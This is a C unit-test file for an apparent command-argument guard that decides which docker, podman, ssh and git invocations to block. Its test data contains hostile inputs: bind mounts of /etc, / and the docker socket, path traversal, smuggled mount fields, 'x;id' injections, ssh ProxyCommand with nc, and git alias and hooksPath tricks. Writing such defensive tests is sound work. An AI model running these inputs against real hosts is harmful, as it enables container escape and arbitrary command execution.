/* A user's value inside a runner's mount option (docker/podman run and
 * create, compose run, service create: -v SPEC, --volume=SPEC, --mount
 * CSV; ma_shell_mount.c): one that names a bind mount's host path
 * (starts it: "/", "/etc", "./"; climbs with ".."; makes it the docker
 * socket or a system path with its own bytes) fires cmd.option_file; one
 * that adds a field (a ':' in -v's SPEC, ",source=/etc" or
 * ",bind-propagation=rshared" in --mount's CSV, options after the second
 * ':') fires cmd.option. A volume's name, a subdirectory under the
 * application's directory, the container's path, a value of another
 * option or of the command after the image pass. */
/* A bind mount's host directory named by a value of word bytes alone
 * ("/" + "etc", "/var/lib/" + "docker"): such an input adds no syntax, yet
 * it picks what of the host the container sees; plain inputs were left out
 * of the mount walk (session 17's review, redteam9). A plain value below
 * the application's own directory, or a volume's name, passes. */
static void argv_plain_values_naming_a_host_directory_fire(void **state)
{
	(void)state;
	{
		const char *a[] = {"docker", "run", "--rm", "-v", "/etc:/data", "alpine:3", NULL};
		const char *b[] = {"docker", "run", "-v", "/var/lib/docker:/d", "alpine:3", NULL};
		const char *c[] = {"podman",   "run", "--mount", "type=bind,source=/root,target=/d",
		                   "alpine:3", NULL};
		assert_int_equal(argv_rule("etc", a, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("docker", b, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("root", c, "cmd.option_file"), MOAT_BLOCK);
	}
	{
		const char *a[] = {"docker", "run", "-v", "/home/alice:/data", "alpine:3", NULL};
		const char *b[] = {"docker",   "run", "-v", "/srv/uploads/photos:/data:ro",
		                   "alpine:3", NULL};
		const char *c[] = {"docker", "run", "-v", "mydata:/data", "alpine:3", NULL};
		const char *d[] = {"docker", "run", "-v", "/srv/x:/etc", "alpine:3", NULL};
		const char *e[] = {"docker",   "run",
		                   "--mount",  "type=bind,source=/srv/a,target=/d",
		                   "alpine:3", NULL};
		assert_int_equal(argv_check("alice", a), MOAT_ALLOW);
		assert_int_equal(argv_check("photos", b), MOAT_ALLOW);
		assert_int_equal(argv_check("mydata", c), MOAT_ALLOW);
		assert_int_equal(argv_check("etc", d), MOAT_ALLOW);
		assert_int_equal(argv_check("a", e), MOAT_ALLOW);
		assert_int_equal(argv_check("data", c), MOAT_ALLOW);
	}
}

/* An argc that reaches past a NULL element: execv stops at the NULL, so
 * the check reads argv up to it and never dereferences it (an argv[0] of
 * NULL with argc 2 crashed the check before session 18). */
static void argv_stops_at_a_null_element_within_argc(void **state)
{
	struct moat_request_info ri = {.method = "GET", .endpoint = "/tools/run", .policy = pol};
	struct moat_request *r = NULL;
	const char *a[] = {NULL, "x;id"};
	const char *b[] = {"sh", "-c", "echo x;id", NULL, "y"};
	const char *c[] = {"ping", NULL, "-c", "1"};

	(void)state;
	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_QUERY, "q", "x;id", 4), 0);
	assert_int_equal(moat_check_argv(r, a, 2), MOAT_ALLOW);
	assert_int_equal(moat_check_argv(r, c, 4), MOAT_ALLOW);
	assert_int_equal(moat_check_argv(r, b, 5), MOAT_BLOCK);
	moat_request_end(r);
}

static void argv_values_inside_mount_options(void **state)
{
	(void)state;
	{
		const char *a[] = {"docker",   "run", "--rm",  "-v", "/etc:/data",
		                   "alpine:3", "ls",  "/data", NULL};
		const char *b[] = {"docker", "run", "-v", "/:/host", "alpine:3", NULL};
		const char *c[] = {"docker",   "run", "-v", "/var/run/docker.sock:/s",
		                   "alpine:3", NULL};
		const char *d[] = {"docker",   "run", "-v", "/srv/uploads/x/../../../etc:/data",
		                   "alpine:3", NULL};
		const char *e[] = {"docker", "run", "--volume=/etc:/data", "alpine:3", NULL};
		const char *f[] = {"podman",   "run", "--mount", "type=bind,source=/etc,target=/d",
		                   "alpine:3", NULL};
		const char *g[] = {"docker",
		                   "run",
		                   "--mount",
		                   "type=volume,dst=/d,volume-opt=type=none,volume-opt=o=bind,"
		                   "volume-opt=device=/etc",
		                   "alpine:3",
		                   NULL};
		const char *h[] = {"sudo",     "docker", "compose", "run", "-v",
		                   "./:/data", "web",    "ls",      NULL};
		assert_int_equal(argv_rule("/etc", a, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/", b, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("run/docker.sock", c, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("x/../../../etc", d, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/etc", e, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/etc", f, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/etc", g, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("./", h, "cmd.option_file"), MOAT_BLOCK);
	}
	{
		const char *a[] = {"docker",   "run", "-v", "vol-mydata:/etc:rw:/data",
		                   "alpine:3", NULL};
		const char *b[] = {"docker",   "run", "-v", "/srv/x:/data:ro,rshared",
		                   "alpine:3", NULL};
		const char *c[] = {"docker",   "run",
		                   "--mount",  "type=bind,source=/srv/x,source=/etc,target=/d",
		                   "alpine:3", NULL};
		const char *d[] = {
		    "docker",   "create",
		    "--mount",  "type=bind,source=/srv/x,bind-propagation=rshared,target=/d",
		    "alpine:3", NULL};
		assert_int_equal(argv_rule("mydata:/etc:rw", a, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("ro,rshared", b, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("x,source=/etc", c, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("x,bind-propagation=rshared", d, "cmd.option"),
		                 MOAT_BLOCK);
	}
	{
		const char *a[] = {"docker",        "run",      "--rm", "-v",
		                   "my-data:/data", "alpine:3", NULL};
		const char *b[] = {"docker",   "run", "-v", "/srv/uploads/alice/photos:/data:ro",
		                   "alpine:3", NULL};
		const char *c[] = {"docker", "run", "-v", "/home/alice-b:/data", "alpine:3", NULL};
		const char *d[] = {"docker", "run", "-v", "my-data:/data/in", "alpine:3", NULL};
		const char *e[] = {"docker", "run", "-v", "photos/2024:/data", "alpine:3", NULL};
		const char *f[] = {"docker",   "run", "--mount", "source=/etc,target=/data",
		                   "alpine:3", NULL};
		const char *g[] = {"docker",   "run",
		                   "--mount",  "type=bind,source=/srv/x,target=/etc/app",
		                   "alpine:3", NULL};
		const char *h[] = {"docker", "run",
		                   "-v",     "/etc/nginx/sites/alice.conf:/etc/s.conf:ro",
		                   "nginx",  NULL};
		const char *i[] = {"docker", "run", "-v", "/srv/x:/data", "alpine:3", NULL};
		const char *j[] = {"docker", "run", "alpine:3", "ls", "-v", "/etc:/x", NULL};
		const char *k[] = {"docker", "rm", "-v", "/etc", NULL};
		const char *l[] = {"docker", "run", "-e", "V=/etc:/x", "alpine:3", NULL};
		assert_int_equal(argv_check("my-data", a), MOAT_ALLOW);
		assert_int_equal(argv_check("alice/photos", b), MOAT_ALLOW);
		assert_int_equal(argv_check("alice-b", c), MOAT_ALLOW);
		assert_int_equal(argv_check("/data/in", d), MOAT_ALLOW);
		assert_int_equal(argv_check("photos/2024", e), MOAT_ALLOW);
		assert_int_equal(argv_check("/etc", f), MOAT_ALLOW); /* type=volume: a name */
		assert_int_equal(argv_check("/etc/app", g), MOAT_ALLOW);
		assert_int_equal(argv_check("alice.conf", h), MOAT_ALLOW);
		assert_int_equal(argv_check("/", i), MOAT_ALLOW);
		assert_int_equal(argv_check("/etc", j), MOAT_ALLOW);
		assert_int_equal(argv_check("/etc", k), MOAT_ALLOW);
		assert_int_equal(argv_check("/etc", l), MOAT_ALLOW);
	}
	{ /* a quoted CSV field: its ',' is the value's, its closing quote ends
	   * nothing of the path (an empty source once fired on a lone '"') */
		const char *a[] = {"docker",   "run",
		                   "--mount",  "type=bind,\"source=/srv/a,b\",dst=/d",
		                   "alpine:3", NULL};
		const char *b[] = {"docker",   "run", "--mount", "type=bind,\"source=\"",
		                   "alpine:3", NULL};
		const char *c[] = {"docker",   "run", "--mount", "type=bind,\"source=/etc\",dst=/d",
		                   "alpine:3", NULL};
		assert_int_equal(argv_check("a,b", a), MOAT_ALLOW);
		assert_int_equal(argv_check("\"", b), MOAT_ALLOW);
		assert_int_equal(argv_rule("/etc", c, "cmd.option_file"), MOAT_BLOCK);
	}
}

/* The option lists are searched 16 bytes at a time (session 18): a
 * name matches a whole word only, at the list's start, its end and in
 * between, whatever the list's length. */
static void argv_option_lists_match_whole_words(void **state)
{
	static const char list[] = "--env --env-file --user --workdir --add-host --annotation "
	                           "--attach --blkio-weight --cpu-rt-runtime --volume";
	char big[512];
	size_t o = 0;

	(void)state;
	assert_true(ma_sh_in_words(list, "--env", 5));
	assert_true(ma_sh_in_words(list, "--env-file", 10));
	assert_true(ma_sh_in_words(list, "--volume", 8));
	assert_true(ma_sh_in_words(list, "--attach", 8));
	assert_true(ma_sh_in_words(list, "--volume=x", 8));
	assert_false(ma_sh_in_words(list, "--volum", 7));
	assert_false(ma_sh_in_words(list, "--volumes", 9));
	assert_false(ma_sh_in_words(list, "-env", 4));
	assert_false(ma_sh_in_words(list, "env", 3));
	assert_false(ma_sh_in_words(list, "--env --env-file", 16));
	assert_false(ma_sh_in_words(list, "", 0));
	assert_false(ma_sh_in_words("", "--env", 5));
	assert_true(ma_sh_in_words("x", "x", 1));
	assert_false(ma_sh_in_words("xy", "x", 1));
	/* every word of a long list, at every offset a block can take */
	for (int k = 0; k < 40; k++)
		o += (size_t)snprintf(big + o, sizeof big - o, "%s--o%d", k ? " " : "", k);
	for (int k = 0; k < 40; k++) {
		char w[16];
		int n = snprintf(w, sizeof w, "--o%d", k);
		assert_true(ma_sh_in_words(big, w, (size_t)n));
		w[n - 1] = 'x';
		assert_false(ma_sh_in_words(big, w, (size_t)n));
	}
}

/* shell26 (session 25): the argv check reads ssh -o keywords and git -c
 * keys with the line check's deny-lists (ssh_config(5) of OpenSSH 9.2p1,
 * git-config(1) of git 2.39.5: ma_sh_ssh_key_class, ma_sh_git_key_class),
 * one list for both (the lead's decision, session 25). Plain settings
 * the earlier, wider argv lists fired on (what opens the agent, a
 * forward or a network; the known-hosts and control files; a remote's
 * URL, http.proxy, core.attributesFile, core.worktree) pass, the input
 * being the whole setting, its keyword or its value; the listed keys
 * (what runs a program, loads code or reads a file that can) still
 * fire. */
static void argv_ssh_git_keys_read_with_the_line_checks_deny_lists(void **state)
{
	(void)state;
	{
		const char *a[] = {"ssh", "-o", "ForwardAgent=yes", "host", "ls", NULL};
		const char *b[] = {"ssh", "-o", "ControlMaster=auto", "host", NULL};
		const char *c[] = {"ssh", "-o", "UserKnownHostsFile=/tmp/known", "host", NULL};
		const char *d[] = {"ssh", "-o", "RemoteForward=8080 10.0.0.5:80", "host", NULL};
		const char *e[] = {"ssh", "-o", "ControlPath=/run/user/cm-web", "host", NULL};
		const char *f[] = {"git", "-c", "http.proxy=http://proxy.example:3128", "fetch",
		                   NULL};
		const char *g[] = {"git", "-c", "remote.origin.url=https://git.example.com/a.git",
		                   "fetch", NULL};
		const char *h[] = {"git", "-c", "core.attributesFile=/srv/attrs", "status", NULL};
		const char *i[] = {"git", "-c", "core.worktree=/srv/site", "status", NULL};
		assert_int_equal(argv_check("ForwardAgent=yes", a), MOAT_ALLOW);
		assert_int_equal(argv_check("ControlMaster=auto", b), MOAT_ALLOW);
		assert_int_equal(argv_check("/tmp/known", c), MOAT_ALLOW);
		assert_int_equal(argv_check("UserKnownHostsFile=/tmp/known", c), MOAT_ALLOW);
		assert_int_equal(argv_check("RemoteForward=8080 10.0.0.5:80", d), MOAT_ALLOW);
		assert_int_equal(argv_check("/run/user/cm-web", e), MOAT_ALLOW);
		assert_int_equal(argv_check("http://proxy.example:3128", f), MOAT_ALLOW);
		assert_int_equal(argv_check("http.proxy=http://proxy.example:3128", f), MOAT_ALLOW);
		assert_int_equal(argv_check("https://git.example.com/a.git", g), MOAT_ALLOW);
		assert_int_equal(argv_check("/srv/attrs", h), MOAT_ALLOW);
		assert_int_equal(argv_check("/srv/site", i), MOAT_ALLOW);
	}
	{
		const char *a[] = {"ssh", "-o", "ProxyCommand=nc %h %p", "host", NULL};
		const char *b[] = {"ssh", "-o", "PKCS11Provider=/tmp/p.so", "host", NULL};
		const char *c[] = {"git", "-c", "core.hooksPath=/tmp/hooks", "commit", NULL};
		const char *d[] = {"git", "-c", "alias.st=!id", "st", NULL};
		const char *e[] = {"git", "-c", "include.path=/tmp/cfg", "status", NULL};
		assert_int_equal(argv_rule("ProxyCommand=nc %h %p", a, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/p.so", b, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/hooks", c, "cmd.option_file"), MOAT_BLOCK);
		assert_int_equal(argv_rule("alias.st=!id", d, "cmd.option"), MOAT_BLOCK);
		assert_int_equal(argv_rule("/tmp/cfg", e, "cmd.option_file"), MOAT_BLOCK);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(argv_curl_e_is_the_referer),
	    cmocka_unit_test(argv_commands_in_containers_are_judged),
	    cmocka_unit_test(argv_ssh_options_that_run_commands),
	    cmocka_unit_test(argv_command_line_values),
	    cmocka_unit_test(argv_script_files_from_an_input),
	    cmocka_unit_test(argv_code_in_an_option_value),
	    cmocka_unit_test(argv_vim_ex_commands),
	    cmocka_unit_test(the_code_lexer_reads_each_language),
	    cmocka_unit_test(argv_commands_other_programs_run),
	    cmocka_unit_test(argv_one_byte_inputs_name_no_value),
	    cmocka_unit_test(argv_git_subsections_are_names),
	    cmocka_unit_test(argv_nested_commands_keep_the_stack_bounded),
	    cmocka_unit_test(argv_a_wrapper_without_a_command_is_the_program),
	    cmocka_unit_test(argv_database_clients_statements),
	    cmocka_unit_test(argv_code_that_runs_a_shell_string),
	    cmocka_unit_test(argv_env_split_string_is_an_argv),
	    cmocka_unit_test(argv_keys_and_runner_options_that_open_the_host),
	    cmocka_unit_test(argv_heredocs_and_percent_literals),
	    cmocka_unit_test(argv_container_commands_without_dashdash),
	    cmocka_unit_test(argv_values_inside_mount_options),
	    cmocka_unit_test(argv_stops_at_a_null_element_within_argc),
	    cmocka_unit_test(argv_plain_values_naming_a_host_directory_fire),
	    cmocka_unit_test(argv_option_lists_match_whole_words),
	    cmocka_unit_test(argv_ssh_git_keys_read_with_the_line_checks_deny_lists),
	};
	return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
